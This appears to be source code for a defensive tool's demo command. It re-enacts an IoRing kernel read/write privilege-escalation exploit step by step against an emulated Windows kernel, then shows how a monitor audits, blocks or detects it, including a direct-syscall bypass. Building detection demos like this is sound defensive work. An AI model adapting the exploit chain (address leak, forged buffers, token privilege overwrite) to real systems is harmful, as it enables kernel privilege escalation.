// `win11mon demo [--mode off,audit,enforce,bypass] [--build N|all] [--json]`: runs the IoRing read/write
// exploit against the emulated kernel with the monitor off, auditing, enforcing, or bypassed by direct
// syscalls, and prints a timeline of exploit steps, kernel events and monitor events (reasons, ATT&CK).
// Each mode is a function (build, opts) => Promise<DemoRun> in DEMO_MODES.
import { mkdtempSync, rmSync } from 'node:fs';
import { join } from 'node:path';
import { tmpdir } from 'node:os';
import { setTimeout as sleep } from 'node:timers/promises';
import type { Command } from 'commander';
import type { CommandModule } from '../command.js';
import { ExitCode, type CliIo } from '../io.js';
import { Win11MonError } from '../../abi/errors.js';
import { ntStatusName } from '../../abi/ntstatus.js';
import { IoRingVersion } from '../../abi/ioring.js';
import { hex64, hiOf, loOf } from '../../abi/u64.js';
import { EmulatedKernel, TokenOff, type KernelEvent } from '../../kernel/kernel.js';
import { runIoRingExploit, forgeRegisteredBuffer, FAKE_ARRAY_ADDRESS, type ExploitResult, type ExploitStep } from '../../kernel/exploit.js';
import type { EmulatedProcess } from '../../kernel/process.js';
import {
  BuildIoRingReadFile, BuildIoRingWriteFile, CloseIoRing, CreateIoRing, INFINITE, IoRingBufferRefFromIndexAndOffset, IoRingHandleRefFromHandle,
  PopIoRingCompletion, SubmitIoRing, createPipePair, readBytes, writeBytes, type HIORING, type IoRingCqe,
} from '../../kernel/kernelbase.js';
import { SUPPORTED_BUILDS, resolveOffsets } from '../../kernel/offsets.js';
import { MonitorDriver } from '../../driver/driver.js';
import type { MonitorEvent } from '../../driver/telemetry/events.js';
import { installIntercept } from '../../client/intercept.js';

/** One line of a run's timeline. */
export interface DemoEvent {
  seq: number;
  source: 'exploit' | 'kernel' | 'monitor';
  kind: string;
  status?: string;
  detail: string;
  /** Monitor events: the decision reason, ATT&CK technique and the layer that reported it. */
  reason?: string;
  technique?: string;
  layer?: string;
}

/** What every demo mode returns. */
export interface DemoRun {
  mode: string;
  build: number;
  exploitSucceeded: boolean;
  tokenModified: boolean;
  kernelBytesLeaked: number;
  blocked: boolean;
  detectedBy: string[];
  events: DemoEvent[];
  failedAt?: string;
  bugchecks?: Array<{ code: number; name: string; reason: string }>;
  exploit?: ExploitResult;
}

export interface DemoOptions {
  /** Skip the exploit's cleanup (the teardown then bugchecks, unless the monitor quarantined the ring). */
  skipCleanup?: boolean;
  /** bypass mode: driver poll interval and the attacker's pause between steps (ms). */
  pollMs?: number;
  stepDelayMs?: number;
}

export type DemoMode = (build: number, opts: DemoOptions) => Promise<DemoRun>;

/** Records kernel events into a timeline (only the ones a reader of the demo cares about). */
export function kernelTimeline(kernel: EmulatedKernel, events: DemoEvent[], before?: () => void): () => void {
  return kernel.onEvent((e: KernelEvent & { seq: number }) => {
    before?.();
    const push = (kind: string, detail: string, status?: string) => events.push({ seq: events.length + 1, source: 'kernel', kind, detail, ...(status ? { status } : {}) });
    if (e.type === 'ioring.create') push(e.type, `pid ${e.pid} handle 0x${e.handle.toString(16)} IORING_OBJECT 0x${e.object.toString(16)} (v${e.version}, sq ${e.submissionQueueSize}, cq ${e.completionQueueSize})`);
    else if (e.type === 'ioring.submit') push(e.type, `pid ${e.pid}: ${e.entries} entr${e.entries === 1 ? 'y' : 'ies'} processed`, ntStatusName(e.status));
    else if (e.type === 'driver.write') push(e.type, `vulnerable driver write-what-where: ${e.length} bytes at 0x${e.target.toString(16)}`, ntStatusName(e.status));
    else if (e.type === 'ioring.delete') push(e.type, `IopDeleteIoRing 0x${e.object.toString(16)}`);
    else if (e.type === 'bugcheck') push(e.type, `${e.bugcheck.name} (0x${e.bugcheck.code.toString(16)}): ${e.bugcheck.reason}`, 'crash');
  });
}

/** What a mode's setup hands back to runScenario. */
export interface ScenarioSetup {
  detectedBy?: () => string[];
  directSyscalls?: boolean;
  /** The attacker process (e.g. with the hook installed); created by the exploit when absent. */
  process?: EmulatedProcess;
  /** Called before each timeline entry (pulls monitor events in so the timeline interleaves). */
  sync?: () => void;
  teardown?: () => void;
}

/** Runs the exploit on a fresh kernel with the given per-run setup (hooks, monitor) and tears it down. */
export async function runScenario(mode: string, build: number, opts: DemoOptions, setup?: (kernel: EmulatedKernel, events: DemoEvent[]) => ScenarioSetup | void): Promise<DemoRun> {
  const dir = mkdtempSync(join(tmpdir(), 'win11mon-demo-'));
  const kernel = new EmulatedKernel({ build, dataDir: dir });
  const events: DemoEvent[] = [];
  let s: ScenarioSetup = {};
  try {
    s = setup?.(kernel, events) ?? {};
    const off = kernelTimeline(kernel, events, s.sync);
    const r = runIoRingExploit(kernel, {
      cleanup: !opts.skipCleanup,
      directSyscalls: s.directSyscalls ?? false,
      ...(s.process ? { process: s.process } : {}),
      onStep: (st) => { s.sync?.(); events.push(stepEvent(events, st)); },
    });
    s.sync?.();
    off();
    return finishRun(mode, build, kernel, events, r, s.detectedBy?.() ?? []);
  } finally {
    s.teardown?.();
    kernel.close();
    rmSync(dir, { recursive: true, force: true });
  }
}

function stepEvent(events: DemoEvent[], st: ExploitStep): DemoEvent {
  return { seq: events.length + 1, source: 'exploit', kind: st.step, status: st.status, detail: st.detail + (st.code ? ` [${st.code}]` : '') };
}

function finishRun(mode: string, build: number, kernel: EmulatedKernel, events: DemoEvent[], r: ExploitResult, detectedBy: string[]): DemoRun {
  return {
    mode, build, exploitSucceeded: r.exploitSucceeded, tokenModified: r.tokenModified, kernelBytesLeaked: r.kernelBytesLeaked,
    blocked: r.failedAt !== undefined && !r.tokenModified, detectedBy, events,
    ...(r.failedAt ? { failedAt: r.failedAt } : {}),
    ...(kernel.bugchecks.length ? { bugchecks: kernel.bugchecks.map((b) => ({ code: b.code, name: b.name, reason: b.reason })) } : {}),
    exploit: r,
  };
}

/** Pulls new telemetry-ring events into the timeline. `findingLayers` names the layer of each RegBuffersViolation in order. */
export function monitorTimeline(driver: MonitorDriver, events: DemoEvent[], findingLayers: string[] = []): { drain: () => void; seen: MonitorEvent[] } {
  let cursor = 1;
  const seen: MonitorEvent[] = [];
  const drain = (): void => {
    for (;;) {
      const r = driver.ring.read(cursor, 256);
      cursor = r.nextCursor;
      if (r.events.length === 0) return;
      for (const ev of r.events) {
        seen.push(ev);
        const e = monitorEvent(ev, findingLayers);
        if (e) events.push({ seq: events.length + 1, ...e });
      }
    }
  };
  return { drain, seen };
}

function monitorEvent(ev: MonitorEvent, findingLayers: string[]): Omit<DemoEvent, 'seq'> | undefined {
  const base = { source: 'monitor' as const, kind: ev.type };
  switch (ev.type) {
    case 'InterceptDecision': {
      const p = ev.payload;
      return { ...base, status: p.action, reason: p.reason, technique: p.technique, layer: p.layer, detail: `${p.layer}: ${p.action} ${p.reason} (${p.technique}) pid ${ev.pid} handle 0x${p.ioRingHandle.lo.toString(16)}, ${p.operationCount} op(s): ${p.explanation}` };
    }
    case 'RegBuffersViolation': {
      const p = ev.payload;
      const layer = findingLayers.shift() ?? 'integrity';
      return { ...base, status: 'detected', reason: 'RegBuffersCorrupted', technique: p.technique, layer, detail: `${layer} (A2): pid ${ev.pid} ring ${hex64(p.objectAddress.hi, p.objectAddress.lo)} RegBuffers ${hex64(p.regBuffersAddress.hi, p.regBuffersAddress.lo)} count ${p.regBuffersCount} (flags 0x${p.violationFlags.toString(16)})` };
    }
    case 'RingQuarantined':
      return { ...base, status: 'neutralized', reason: ev.payload.reason, technique: 'T1068', layer: 'driver', detail: `driver: ${ev.payload.detail}` };
    case 'BypassSuspected': {
      const p = ev.payload;
      return { ...base, status: 'detected', reason: 'BypassSuspected', technique: p.technique, layer: 'enumeration', detail: `enumeration (A1 walk): pid ${ev.pid} ${p.detail}` };
    }
    case 'PostSubmit': {
      const p = ev.payload;
      return { ...base, status: ntStatusName(p.status), layer: 'hook', detail: `hook post-submit: handle 0x${p.ioRingHandle.lo.toString(16)}, ${p.operationCount} op(s), ${p.completions} consumed by the kernel` };
    }
    case 'HookInstalled':
    case 'HookRemoved':
      return { ...base, status: 'ok', layer: 'hook', detail: `${ev.payload.symbol} hooked (${ev.payload.method}) in pid ${ev.payload.targetPid}` };
    case 'IoRingHandleCreated':
      return { ...base, status: 'seen', layer: 'enumeration', detail: `enumeration (A1): new IoRing handle in pid ${ev.pid}` };
    case 'Bugcheck':
      return { ...base, status: 'crash', detail: ev.payload.message };
    case 'DriverUnreachable':
    case 'CallbackError':
      return { ...base, status: 'warning', layer: 'hook', detail: ev.type === 'DriverUnreachable' ? ev.payload.detail : ev.payload.message };
    default:
      return undefined;
  }
}

/** Layers that reported the attack, from the monitor events in a timeline. */
export function layersOf(events: readonly DemoEvent[]): string[] {
  const out = new Set<string>();
  for (const e of events) {
    if (e.source !== 'monitor') continue;
    if (e.kind === 'InterceptDecision' && (e.status === 'Block' || e.status === 'LogOnly')) out.add(e.layer ?? 'hook');
    else if (e.kind === 'RegBuffersViolation' || e.kind === 'BypassSuspected') out.add(e.layer ?? 'integrity');
  }
  return [...out];
}

/** audit / enforce: the hook installed in the attacker process, the in-process driver validating. */
function hooked(mode: 'audit' | 'enforce'): DemoMode {
  return (build, opts) => runScenario(mode, build, opts, (kernel, events) => {
    const driver = new MonitorDriver({ kernel });
    if (mode === 'audit') {
      const r = driver.engine.setPolicy({ name: 'demo-audit', auditMode: true });
      if (!r.ok) throw new Error('demo: audit policy rejected');
    }
    const tap = monitorTimeline(driver, events);
    const process = kernel.createProcess({ imageName: 'exploit.exe' });
    const hook = installIntercept(process, { device: driver });
    return {
      process,
      sync: tap.drain,
      detectedBy: () => { tap.drain(); return layersOf(events); },
      teardown: () => { hook.remove(); driver.close(); },
    };
  });
}

/**
 * bypass: the hook is installed but the attacker calls every Nt* through the direct-syscall table, so
 * the hook sees nothing. The driver's A1/A2 poll runs on a real timer (setInterval, `pollMs`) while
 * the attacker's steps are paced by real awaits (`stepDelayMs` > pollMs), so whatever the poll finds
 * it finds on its own schedule, as on Windows.
 */
async function bypass(build: number, opts: DemoOptions): Promise<DemoRun> {
  const pollMs = opts.pollMs ?? 5;
  const stepMs = opts.stepDelayMs ?? 12;
  const dir = mkdtempSync(join(tmpdir(), 'win11mon-demo-'));
  const kernel = new EmulatedKernel({ build, dataDir: dir });
  const events: DemoEvent[] = [];
  const driver = new MonitorDriver({ kernel });
  const findingLayers: string[] = [];
  const tap = monitorTimeline(driver, events, findingLayers);
  const process = kernel.createProcess({ imageName: 'exploit.exe' });
  const hook = installIntercept(process, { device: driver });
  const timer = setInterval(() => {
    for (const f of driver.scanNow().findings) findingLayers.push(f.layer);
  }, pollMs);
  try {
    const off = kernelTimeline(kernel, events, tap.drain);
    const r = await runPacedExploit(kernel, process, { stepDelayMs: stepMs, cleanup: !opts.skipCleanup, onStep: (st) => { tap.drain(); events.push(stepEvent(events, st)); } });
    off();
    tap.drain();
    return finishRun('bypass', build, kernel, events, r, layersOf(events));
  } finally {
    clearInterval(timer);
    hook.remove();
    driver.close();
    kernel.close();
    rmSync(dir, { recursive: true, force: true });
  }
}

/**
 * The exploit of src/kernel/exploit.ts (reference §4), step for step, through direct syscalls only,
 * with a real pause after each step: the time a real attacker's process spends between syscalls,
 * which is when a poll can look. Same result shape as runIoRingExploit.
 */
export async function runPacedExploit(kernel: EmulatedKernel, p: EmulatedProcess, o: { stepDelayMs: number; cleanup?: boolean; onStep?: (s: ExploitStep) => void }): Promise<ExploitResult> {
  const nt = p.syscall;
  const off = kernel.offsets.off;
  const mc = kernel.offsets.regBuffersFormat === 'mc-entry-pointers';
  const steps: ExploitStep[] = [];
  const result: ExploitResult = {
    build: kernel.build, pid: p.pid, directSyscalls: true, exploitSucceeded: false, tokenModified: false, kernelBytesLeaked: 0,
    readPrimitiveAvailable: kernel.offsets.maxIoRingVersion >= IoRingVersion.V3, steps, cleanup: { attempted: false, restored: false, via: 'none' }, limitations: [],
  };
  const pause = () => sleep(o.stepDelayMs);
  const step = async (s: ExploitStep): Promise<void> => { steps.push(s); o.onStep?.(s); if (s.status === 'failed') result.failedAt ??= s.step; await pause(); };
  const ok = (st: string, detail: string) => step({ step: st, detail, status: 'ok' });
  const leak = (handle: number): bigint | undefined => {
    const buf = p.virtualAlloc(0x10000);
    try {
      if (nt.NtQuerySystemInformation(16, buf + 0x10n, 0xfff0, buf) !== 0) return undefined;
      const count = p.readU32(buf + 0x10n);
      for (let i = 0; i < count; i++) {
        const e = buf + 0x18n + BigInt(i * 0x18);
        if ((p.readU32(e) & 0xffff) === (p.pid & 0xffff) && ((p.readU32(e + 4n) >>> 16) & 0xffff) === (handle & 0xffff)) return p.readU64(e + 8n);
      }
      return undefined;
    } finally { p.virtualFree(buf); }
  };
  const submitOne = (ring: HIORING): number => {
    const hr = SubmitIoRing(ring, 1, INFINITE, undefined, nt);
    const cqe: IoRingCqe = { UserData: 0n, ResultCode: 0, Information: 0 };
    if (hr !== 0) return hr;
    return PopIoRingCompletion(ring, cqe) === 0 ? cqe.ResultCode : -1;
  };
  const c = CreateIoRing(p, Math.min(IoRingVersion.V3, kernel.capabilities.maxVersion), { required: 0, advisory: 0 }, 0x100, 0x200, nt);
  if (!c.ring) { await step({ step: 'create-ioring', detail: 'CreateIoRing failed', status: 'failed' }); return result; }
  const ring = c.ring;
  await ok('create-ioring', `CreateIoRing through direct syscalls -> handle 0x${ring.handle.toString(16)} (the hook never saw it)`);
  const obj = leak(ring.handle);
  const th = p.virtualAlloc(0x1000);
  nt.NtOpenProcessToken(-1, 0x8, th);
  const tokenHandle = Number(p.readU64(th));
  const token = leak(tokenHandle);
  if (obj === undefined || token === undefined) { await step({ step: 'leak-ioring-object', detail: 'handle not found', status: 'failed' }); return result; }
  result.ioRingObject = hex64(hiOf(obj), loOf(obj));
  result.tokenAddress = hex64(hiOf(token), loOf(token));
  await ok('leak-ioring-object', `SystemHandleInformation: IORING_OBJECT ${result.ioRingObject}, _TOKEN ${result.tokenAddress}`);
  p.virtualAlloc(0x10000, FAKE_ARRAY_ADDRESS);
  const entries = mc ? p.virtualAlloc(0x1000) : 0n;
  const setEntry = (i: number, target: bigint, length: number): void => forgeRegisteredBuffer(p, entries, mc, i, target, length);
  for (let i = 0; i < 3; i++) setEntry(i, 0n, 0);
  await ok('fake-buffer-array', `fake registered-buffer array at 0x1000000 (${mc ? 'IOP_MC_BUFFER_ENTRY pointers' : 'flat IORING_BUFFER_INFO'})`);
  const ptr = new Uint8Array(8);
  new DataView(ptr.buffer).setUint32(0, Number(FAKE_ARRAY_ADDRESS), true);
  const cnt = new Uint8Array([3, 0, 0, 0]);
  kernel.vulnerableDriver.writeWhatWhere(p, obj + BigInt(off.RegBuffers), ptr);
  kernel.vulnerableDriver.writeWhatWhere(p, obj + BigInt(off.RegBuffersCount), cnt);
  ring.RegBufferArray = FAKE_ARRAY_ADDRESS;
  ring.BufferArraySize = 3;
  await ok('overwrite-regbuffers', 'write-what-where: RegBuffers = 0x1000000, RegBuffersCount = 3 (the one arbitrary write)');
  const inp = createPipePair(p, `IoRingExploitInput-${p.pid}`, nt);
  const outp = createPipePair(p, `IoRingExploitOutput-${p.pid}`, nt);
  await ok('create-pipes', 'two named-pipe pairs (the data channel)');
  if (result.readPrimitiveAvailable) {
    setEntry(0, token, 0x58);
    const expected = kernel.memory.readBytes(token, 0x58);
    BuildIoRingWriteFile(ring, IoRingHandleRefFromHandle(outp.client), IoRingBufferRefFromIndexAndOffset(0, 0), 0x58, 0, 0, 0x101, 0);
    const rc = submitOne(ring);
    const got = readBytes(p, outp.server, 0x58, undefined, nt).bytes;
    for (let i = 0; i < Math.min(got.length, expected.length); i++) if (got[i] === expected[i]) result.kernelBytesLeaked++;
    await step({ step: 'kernel-read', detail: `IORING_OP_WRITE from the forged buffer (direct syscall): ${result.kernelBytesLeaked}/88 token bytes leaked`, status: rc === 0 ? 'ok' : 'failed' });
  } else {
    await step({ step: 'kernel-read', detail: `build ${kernel.build} has no IORING_OP_WRITE: no kernel read primitive`, status: 'unavailable' });
  }
  setEntry(1, token + BigInt(TokenOff.Privileges), 0x10);
  writeBytes(p, inp.server, new Uint8Array(0x10).fill(0xff), undefined, nt);
  BuildIoRingReadFile(ring, IoRingHandleRefFromHandle(inp.client), IoRingBufferRefFromIndexAndOffset(1, 0), 0x10, 0, 0x102, 0);
  const rc2 = submitOne(ring);
  result.tokenModified = kernel.memory.readU64(token + BigInt(TokenOff.Present)) === 0xffffffffffffffffn && kernel.memory.readU64(token + BigInt(TokenOff.Enabled)) === 0xffffffffffffffffn;
  await step({ step: 'kernel-write', detail: `IORING_OP_READ from the pipe over token+0x40 (direct syscall): privileges ${result.tokenModified ? 'all enabled' : 'unchanged'}`, status: rc2 === 0 ? 'ok' : 'failed' });
  if (o.cleanup !== false) {
    result.cleanup.attempted = true;
    setEntry(2, obj + BigInt(off.RegBuffersCount), 0x10);
    writeBytes(p, inp.server, new Uint8Array(0x10), undefined, nt);
    BuildIoRingReadFile(ring, IoRingHandleRefFromHandle(inp.client), IoRingBufferRefFromIndexAndOffset(2, 0), 0x10, 0, 0x103, 0);
    submitOne(ring);
    result.cleanup.restored = kernel.memory.readU64(obj + BigInt(off.RegBuffers)) === 0n;
    result.cleanup.via = 'ioring';
    await ok('cleanup', 'IORING_OP_READ of 16 zero bytes over RegBuffersCount/RegBuffers: the corruption is gone (SubmitCount is not)');
  } else {
    await step({ step: 'cleanup', detail: 'skipped on request', status: 'skipped' });
  }
  ring.RegBufferArray = 0n;
  ring.BufferArraySize = 0;
  for (const h of [tokenHandle, inp.server, inp.client, outp.server, outp.client]) nt.NtClose(h);
  const before = kernel.bugchecks.length;
  CloseIoRing(ring, nt);
  if (kernel.bugchecks.length > before) {
    result.bugcheck = kernel.bugchecks[before];
    steps.push({ step: 'close-ioring', detail: `teardown bugchecked: ${result.bugcheck!.name}`, status: 'failed', code: result.bugcheck!.name });
    o.onStep?.(steps[steps.length - 1]!);
  } else {
    const s: ExploitStep = { step: 'close-ioring', detail: 'CloseIoRing', status: 'ok' };
    steps.push(s);
    o.onStep?.(s);
  }
  if (!kernel.crashed) for (const a of [th, FAKE_ARRAY_ADDRESS, ...(mc ? [entries] : [])]) p.virtualFree(a);
  result.exploitSucceeded = result.tokenModified && (result.kernelBytesLeaked > 0 || !result.readPrimitiveAvailable);
  return result;
}

/** The registry of demo modes. */
export const DEMO_MODES: Record<string, DemoMode> = {
  /** No monitor: the exploit runs against the bare emulated kernel. */
  off: (build, opts) => runScenario('off', build, opts),
  /** The hook validates, the policy is in audit mode: the exploit succeeds and every would-be block is logged. */
  audit: hooked('audit'),
  /** The hook validates and blocks: the first submission using the forged buffers never reaches the kernel. */
  enforce: hooked('enforce'),
  /** Direct syscalls around the hook; the driver's A1/A2 poll and SubmitCount evidence catch it. */
  bypass,
};

const MODE_TITLES: Record<string, string> = {
  off: 'no monitor',
  audit: 'hook + driver, audit policy (log what would be blocked)',
  enforce: 'hook + driver, enforcing',
  bypass: 'hook installed, attacker uses direct syscalls; driver A1/A2 polling',
};

function paint(tty: boolean, code: string, text: string): string {
  return tty ? `\x1b[${code}m${text}\x1b[0m` : text;
}

function statusColour(e: DemoEvent): string {
  const st = e.status ?? '';
  if (st === 'Block' || st === 'failed' || st === 'crash') return '31';
  if (st === 'LogOnly' || st === 'detected' || st === 'neutralized' || st === 'warning') return '33';
  if (st === 'ok' || st === 'Allow') return '32';
  return '0';
}

function renderRun(r: DemoRun, tty = false): string {
  const release = resolveOffsets(r.build).release;
  let s = `== mode ${r.mode}, build ${r.build} (${release}) ==\n`;
  if (MODE_TITLES[r.mode] && r.mode !== 'off') s += `  ${MODE_TITLES[r.mode]}\n`;
  const w = Math.max(...r.events.map((e) => e.kind.length), 4);
  for (const e of r.events) {
    const tag = e.technique ? ` [${e.technique}]` : '';
    const line = `  ${String(e.seq).padStart(3)}  ${e.source.padEnd(7)} ${e.kind.padEnd(w)}  ${paint(tty, statusColour(e), (e.status ?? '').padEnd(14))} ${e.detail}${tag}`;
    s += (e.source === 'monitor' ? paint(tty, '1', line.slice(0, 14)) + line.slice(14) : line) + '\n';
  }
  s += `  result: exploit ${r.exploitSucceeded ? 'SUCCEEDED' : 'failed'}; token modified: ${r.tokenModified ? 'yes' : 'no'}; kernel bytes leaked: ${r.kernelBytesLeaked}; blocked: ${r.blocked ? 'yes' : 'no'}; detected by: ${r.detectedBy.length ? r.detectedBy.join(', ') : '-'}\n`;
  for (const l of r.exploit?.limitations ?? []) s += `  note: ${l}\n`;
  return s;
}

interface DemoCliOpts { mode: string; build?: string; json?: boolean; skipCleanup?: boolean }

const command: CommandModule = {
  register(program: Command, io: CliIo, setStatus: (s: number) => void): Command {
    return program
      .command('demo')
      .description('re-enact the IoRing kernel read/write exploit against the emulated kernel and print a timeline')
      .option('--mode <modes>', `comma-separated modes (${Object.keys(DEMO_MODES).join(', ')}); default all`, Object.keys(DEMO_MODES).join(','))
      .option('--build <N>', 'Windows build number, or "all"', '22621')
      .option('--json', 'machine-readable output')
      .option('--skip-cleanup', 'skip the exploit cleanup (the ring teardown then bugchecks)')
      .action(async (opts: DemoCliOpts) => {
        const modes = opts.mode.split(',').map((m) => m.trim()).filter(Boolean);
        const unknown = modes.filter((m) => !Object.hasOwn(DEMO_MODES, m));
        if (unknown.length || modes.length === 0) {
          io.err(`win11mon demo: unknown mode ${unknown.join(', ') || '(none)'}; available modes: ${Object.keys(DEMO_MODES).join(', ')}\n`);
          setStatus(ExitCode.BadInput);
          return;
        }
        let builds: number[];
        if (opts.build === 'all') builds = [...SUPPORTED_BUILDS];
        else if (opts.build && /^\d+$/.test(opts.build)) builds = [Number(opts.build)];
        else throw new Win11MonError('WIN11MON_ERR_BAD_ARGUMENT', `--build must be a build number or "all": ${opts.build}`, { field: '--build', actual: String(opts.build) });
        for (const b of builds) resolveOffsets(b); // unknown build -> WIN11MON_ERR_UNKNOWN_BUILD before running anything
        const runs: DemoRun[] = [];
        for (const b of builds) for (const m of modes) runs.push(await DEMO_MODES[m]!(b, { skipCleanup: opts.skipCleanup === true }));
        if (opts.json) {
          io.out(JSON.stringify({ runs: runs.map(({ exploit: _x, ...r }) => r) }, null, 2) + '\n');
        } else {
          io.out(runs.map((r) => renderRun(r, io.isTty)).join('\n'));
        }
        setStatus(ExitCode.Ok);
      });
  },
};

export default command;
